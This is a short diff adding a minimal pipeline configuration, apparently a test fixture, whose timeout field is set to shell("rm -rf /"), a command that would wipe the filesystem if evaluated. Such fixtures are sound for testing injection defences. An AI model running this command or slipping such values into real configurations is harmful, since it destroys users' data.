@@ -1,0 +1,4 @@
+pipeline "x" {
+  timeout = shell("rm -rf /")
+  stage "discover" {}
+}
